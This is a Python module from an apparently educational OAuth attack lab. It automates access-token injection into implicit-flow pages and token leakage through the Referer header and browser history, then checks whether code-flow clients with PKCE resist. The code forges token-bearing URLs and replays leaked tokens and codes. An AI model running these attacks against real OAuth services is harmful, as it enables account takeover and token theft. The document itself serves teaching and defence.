"""Attacks that happen inside a browser: access token injection into an implicit client
(RFC 9700 §4.6) and token leakage through Referer and history (§4.2.4, §4.3.2)."""

from __future__ import annotations

from tokenpath.lab.attacks.chromium import chromium_page, sign_in
from tokenpath.lab.attacks.flows import query_of
from tokenpath.lab.attacks.report import Outcome
from tokenpath.lab.attacks.run import ATTACKER, VICTIM_BROWSER, Run

__all__ = ["referer_history_leak", "token_injection"]


async def _token_for_attackers_app(run: Run) -> str:
    """Alice once signed in to Mallory's harmless-looking app (a public CLI-style client):
    that app holds an access token for Alice, issued to it."""
    target = run.target
    redirect = run.native_redirect(target.attacker_url)
    code = await run.alice(
        run.client(VICTIM_BROWSER),
        client_id=target.native_client_id,
        redirect_uri=redirect,
        follow=True,
    )
    tokens = await run.redeem(
        run.client(ATTACKER), code, client_id=target.native_client_id, verifier=code.verifier
    )
    token: str = tokens.json()["access_token"]
    return token


async def token_injection(run: Run, mode: str) -> tuple[Outcome, str]:
    target = run.target
    run.step("Alice signs in to Mallory's app once; Mallory now holds Alice's access token.")
    token = await _token_for_attackers_app(run)
    page_url = {
        "naive": target.lab_path("/insecure/naive/"),
        "audience": target.lab_path("/insecure/checked/"),
        "code": f"{target.spa_url}/",
    }[mode]
    run.step(f"In her own browser Mallory opens {page_url} with that token in the fragment.")
    async with chromium_page(run.journal, ATTACKER) as opened:
        await opened.page.goto(f"{page_url}#access_token={token}&token_type=Bearer&state=forged")
        if mode == "code":
            await opened.wait_until("() => !document.getElementById('error').hidden")
            held = await opened.page.evaluate("() => window.tokenpathSpa.heldToken()")
            shown = await opened.page.text_content("#error")
            if held is None:
                return "stopped", (
                    "The code-flow app takes no token from its URL: it accepts only a code it "
                    f"asked for and redeems it itself ({shown})."
                )
            return "succeeded", "the browser app took the injected token"
        await opened.wait_until("() => window.labInsecurePage.result().done")
        result = await opened.page.evaluate("() => window.labInsecurePage.result()")
    if result.get("signedInAs") == run.actors.alice_sub:
        return "succeeded", (
            "The naive page used whatever token arrived in its fragment: Mallory is signed in to "
            "it as Alice. Implicit has no way to tell an injected token from its own (§4.6)."
        )
    return "stopped", f"The page refused the token: {result.get('refused')}."


async def referer_history_leak(run: Run, mode: str) -> tuple[Outcome, str]:
    target = run.target
    flow = "implicit" if mode == "implicit" else "code"
    run.step(f"Alice signs in on the careless page with the {flow} flow.")
    async with chromium_page(run.journal, VICTIM_BROWSER) as opened:
        await opened.page.goto(target.lab_path(f"/insecure/leaky/?start={flow}"))
        await sign_in(opened, target.username, target.password, "#lab-config")
        await opened.wait_until("() => window.labInsecurePage && window.labInsecurePage.done()")
        token = await opened.page.evaluate("() => window.labInsecurePage.heldToken()")
        history = list(opened.navigations)
    if not token:
        return "stopped", "the page never obtained a token"
    referers = [entry["referer"] for entry in await run.loot("pixel")]
    run.step("The third party reads the Referer it received; history is checked for the token.")
    in_referer = any(token in referer for referer in referers)
    in_history = any(token in url for url in history)
    if in_referer or in_history:
        attacker = run.client(ATTACKER)
        used = await run.api_me(attacker, token)
        places = " and ".join(
            p for p, hit in (("the Referer", in_referer), ("the history", in_history)) if hit
        )
        return "succeeded", (
            f"The access token sat in the page's address, so it went to {places}; the third "
            f"party calls the API with it ({used.status_code})."
        )
    codes = [query_of(r).get("code") for r in referers if "code=" in r]
    if codes and codes[-1]:
        run.step("The third party got the code from the Referer and tries to redeem it.")
        attacker = run.client(ATTACKER)
        tried = await attacker.post(
            f"{target.issuer}/token",
            data={
                "grant_type": "authorization_code",
                "code": codes[-1],
                "redirect_uri": target.lab_path("/insecure/leaky/"),
                "client_id": run.actors.insecure_pkce_id,
            },
        )
        return "stopped", (
            "With the code flow no access token is ever in a URL: the Referer carried only a "
            f"one-time code, already spent and bound to PKCE ({tried.json().get('error')})."
        )
    return "stopped", "With the code flow no access token is ever in a URL."
